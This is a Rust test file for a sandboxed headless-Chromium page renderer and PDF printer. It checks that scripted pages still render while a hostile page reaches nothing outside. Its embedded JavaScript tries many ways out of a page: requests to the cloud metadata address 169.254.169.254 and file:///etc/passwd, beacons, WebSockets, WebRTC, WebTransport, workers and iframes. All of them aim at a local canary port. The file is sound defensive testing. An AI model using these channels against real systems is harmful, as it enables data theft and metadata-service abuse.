//! A real Chromium, if the machine has one: it renders a page of scripts, and a hostile page reaches nothing.

use std::os::unix::fs::PermissionsExt;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::Router;
use axum::extract::{Request, State};
use axum::http::{StatusCode, header};
use axum::response::{IntoResponse, Response};
use local_servers::{Chromium, Port, Worker};

use super::policy_test::{APP, Log, shell, web_of};
use super::*;

/// Start-up of a browser on a busy machine.
const START: Duration = Duration::from_secs(60);

struct Started {
    _process: Worker,
    _folder: tempfile::TempDir,
    url: Url,
}

/// Starts the machine's browser; `None` if there is none, or if this machine lets it not run.
async fn chromium() -> Option<Started> {
    let Some(chromium) = Chromium::find() else {
        eprintln!("skipped: no Chromium in PATH (apt install chromium)");
        return None;
    };
    let (folder, port) = (tempfile::tempdir().unwrap(), Port::free().unwrap());
    // The browser of root runs as `nobody`.
    std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o711)).unwrap();
    let start = chromium.start(port.number(), &folder.path().join("profile"), &folder.path().join("log")).unwrap();
    let process = Worker::start(&start).unwrap();
    let url = Url::parse(&format!("http://127.0.0.1:{}/", port.number())).unwrap();
    let client = client::configured(&Route::Direct, START, START).unwrap();
    let mut look = tokio::time::interval(Duration::from_millis(50));
    let ready = async {
        while client.get(url.join("json/version").unwrap()).send().await.is_err() {
            assert_eq!(process.ended().unwrap(), None, "{}", std::fs::read_to_string(process.log()).unwrap());
            look.tick().await;
        }
    };
    tokio::time::timeout(START, ready).await.expect("the browser starts");
    Some(Started { _process: process, _folder: folder, url })
}

/// Counts connections to this machine.
async fn canary() -> (u16, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let (port, hits) = (listener.local_addr().unwrap().port(), Arc::new(AtomicUsize::new(0)));
    let counter = Arc::clone(&hits);
    tokio::spawn(async move {
        while listener.accept().await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    (port, hits)
}

/// Counts datagrams to the same port: those of WebRTC and QUIC go past any proxy and past the interception of requests.
async fn datagrams(port: u16) -> Arc<AtomicUsize> {
    let socket = tokio::net::UdpSocket::bind(("127.0.0.1", port)).await.unwrap();
    let datagrams = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&datagrams);
    tokio::spawn(async move {
        let mut bytes = [0; 64];
        while socket.recv_from(&mut bytes).await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    datagrams
}

/// Every way out of a page that we know of, to the port; then the text.
fn script(port: u16) -> String {
    r#"
const at = 'http://127.0.0.1:PORT';
const out = (text) => { const p = document.createElement('p'); p.textContent = text; document.getElementById('root').append(p); };
const attempt = (work) => { try { work(); } catch (error) { out('caught ' + error.name); } };
out('Cookies: ' + document.cookie.length + ', stored: ' + localStorage.length + '.');
document.cookie = 'a=b'; localStorage.setItem('a', 'b');
for (const url of [at + '/a', 'http://169.254.169.254/latest/', 'file:///etc/passwd', 'https://app.example.org:6379/'])
  fetch(url).then(() => out('REACHED ' + url)).catch(() => {});
fetch('/data', { method: 'POST', body: 'words' }).then(() => out('REACHED by POST')).catch(() => {});
navigator.sendBeacon(at + '/beacon', 'words');
attempt(() => new WebSocket('ws://127.0.0.1:PORT/socket'));
const call = (of) => {
  const servers = [{ urls: 'stun:127.0.0.1:PORT' }, { urls: 'turn:127.0.0.1:PORT?transport=udp', username: 'a', credential: 'b' }];
  const peer = new of.RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel('words');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer)).catch(() => {});
};
const transport = `{ const way = new WebTransport('https://127.0.0.1:PORT/words'); way.ready.catch(() => {}); way.closed.catch(() => {}); }`;
attempt(() => call(window));
attempt(() => { const frame = document.createElement('iframe'); document.body.append(frame); call(frame.contentWindow); });
attempt(() => eval(transport));
attempt(() => new Worker(URL.createObjectURL(new Blob([transport]))));
attempt(() => window.open(at + '/window'));
attempt(() => new EventSource(at + '/events'));
attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch('${at}/worker'); new WebSocket('ws://127.0.0.1:PORT/w')`]))));
attempt(() => { const frame = document.createElement('iframe'); document.body.append(frame); new frame.contentWindow.WebSocket('ws://127.0.0.1:PORT/inner'); });
attempt(() => { const inner = document.createElement('iframe'); inner.srcdoc = `<script>fetch('${at}/srcdoc'); new WebSocket('ws://127.0.0.1:PORT/s')<\/script>`; document.body.append(inner); });
attempt(() => { const a = document.createElement('a'); a.href = at + '/file'; a.download = 'x'; document.body.append(a); a.click(); });
navigator.serviceWorker && navigator.serviceWorker.register('/app.js').catch(() => {});
alert('stop');
const host = document.createElement('div'); document.getElementById('root').append(host);
host.attachShadow({ mode: 'open' }).innerHTML = '<p>This sentence stands in a shadow tree.</p>';
fetch('/data').then((answer) => answer.json()).then((data) => {
  out('The bank left the rate at ' + data.rate + ' per cent.');
  location = 'http://169.254.169.254/latest/meta-data/';
});
"#
    .replace("PORT", &port.to_string())
}

fn hostile_shell(port: u16) -> Page {
    let at = format!("http://127.0.0.1:{port}");
    shell(&format!(
        "<html><head><title>Rate</title><link rel=dns-prefetch href='{at}'><link rel=preconnect href='{at}'><link rel=prefetch href='{at}/p'>\
         <link rel=stylesheet href='{at}/s.css'></head><body><div id=root></div><img src='{at}/i'><iframe src='{at}/f'></iframe>\
         <script src='{at}/x.js'></script><script src=/app.js></script></body></html>"
    ))
}

async fn site(State((log, port)): State<(Log, u16)>, request: Request) -> Response {
    let path = request.uri().path().to_owned();
    log.lock().unwrap().push(format!("{} {path}", request.method()));
    match path.as_str() {
        "/web/app.example.org/app.js" => ([(header::CONTENT_TYPE, "text/javascript")], script(port)).into_response(),
        "/web/app.example.org/data" => {
            ([(header::CONTENT_TYPE, "application/json")], "{\"rate\": 3.25}").into_response()
        }
        _ => StatusCode::NOT_FOUND.into_response(),
    }
}

#[tokio::test]
async fn a_real_browser_renders_a_page_and_a_hostile_page_reaches_nothing() {
    let Some(chromium) = chromium().await else { return };
    let (port, hits) = canary().await;
    let datagrams = datagrams(port).await;
    let log = Log::default();
    let app = Router::new().fallback(site).with_state((Arc::clone(&log), port));
    let fetcher = web_of(app).await;
    let config = BrowserConfig { total: START, ..BrowserConfig::at(chromium.url.clone()) };
    let browser = Browser::new(config, &fetcher).unwrap();
    // Twice: nothing of the first context is in the second.
    for _ in 0..2 {
        let page = browser.render(&hostile_shell(port)).await.unwrap();
        let document = extraction::read(&page.body, &page.content_type, APP).unwrap();
        let text = &document.text;
        assert!(text.contains("The bank left the rate at 3.25 per cent."), "{text}");
        assert!(text.contains("This sentence stands in a shadow tree."), "{text}");
        // The extractor leaves out lines about cookies.
        let html = String::from_utf8_lossy(&page.body);
        assert!(html.contains("Cookies: 0, stored: 0."), "{html}");
        assert!(!html.contains("REACHED"), "{html}");
        assert_eq!(page.url.as_str(), APP);
    }
    assert_eq!(hits.load(Ordering::SeqCst), 0, "connections to this machine");
    assert_eq!(datagrams.load(Ordering::SeqCst), 0, "datagrams of WebRTC or QUIC to this machine");
    let log = log.lock().unwrap();
    assert!(log.iter().all(|line| line.starts_with("GET /web/app.example.org/")), "{log:?}");
}

#[tokio::test]
async fn a_script_without_end_is_stopped_and_the_browser_renders_the_next_page() {
    let Some(chromium) = chromium().await else { return };
    let fetcher = web_of(Router::new()).await;
    let config = BrowserConfig { total: Duration::from_secs(4), ..BrowserConfig::at(chromium.url.clone()) };
    let endless = Browser::new(config.clone(), &fetcher).unwrap();
    let error = endless.render(&shell("<p>x</p><script>for (;;) {}</script>")).await.unwrap_err();
    assert!(matches!(error, RenderError::Timeout(_)), "{error:?}");
    let browser = Browser::new(BrowserConfig { total: START, ..config }, &fetcher).unwrap();
    let page = browser.render(&shell("<script>document.write('<p>next</p>')</script>")).await.unwrap();
    assert!(String::from_utf8(page.body).unwrap().contains("<p>next</p>"));
}

/// A report of several pages that asks for a picture, a style sheet and a script.
fn report(port: u16) -> String {
    let rows: String = (1..=90)
        .map(|n| format!("<tr><td>[{n}]</td><td>Gazette of Norrby, number {n}</td><td>official</td></tr>"))
        .collect();
    format!(
        "<html><head><title>Report</title><link rel=stylesheet href='http://127.0.0.1:{port}/s.css'></head><body>\
         <h1>The ferry strike of Norrby</h1><p>The ferry stood still for three days [1].</p>\
         <img src='http://127.0.0.1:{port}/i.png'><iframe src='http://127.0.0.1:{port}/f'></iframe>\
         <script>document.body.append('SCRIPT RAN'); fetch('http://127.0.0.1:{port}/x')</script>\
         <h2>Sources</h2><table><thead><tr><th></th><th>Source</th><th>Tier</th></tr></thead>{rows}</table></body></html>"
    )
}

#[tokio::test]
async fn a_real_browser_prints_a_report_with_page_numbers_and_requests_nothing() {
    let Some(chromium) = chromium().await else { return };
    let (port, hits) = canary().await;
    let config = BrowserConfig { total: START, ..BrowserConfig::at(chromium.url.clone()) };
    let pdf = Printer::new(config).unwrap().print(&report(port)).await.unwrap();
    let document = extraction::read(&pdf, "application/pdf", "https://app.example.org/report.pdf").unwrap();
    let text = document.text.split_whitespace().collect::<Vec<_>>().join(" ");
    for part in ["The ferry strike of Norrby", "three days [1].", "Sources", "Gazette of Norrby, number 90"] {
        assert!(text.contains(part), "{part}: {text}");
    }
    assert!(!text.contains("SCRIPT RAN"), "{text}");
    let raw = String::from_utf8_lossy(&pdf);
    let pages = raw.matches("/Type /Page\n").count().max(raw.matches("/Type /Page ").count());
    assert!(pages > 1, "{pages} pages");
    assert!(text.contains(&format!("1 / {pages}")) && text.contains(&format!("{pages} / {pages}")), "{text}");
    assert_eq!(hits.load(Ordering::SeqCst), 0, "connections to this machine");
}
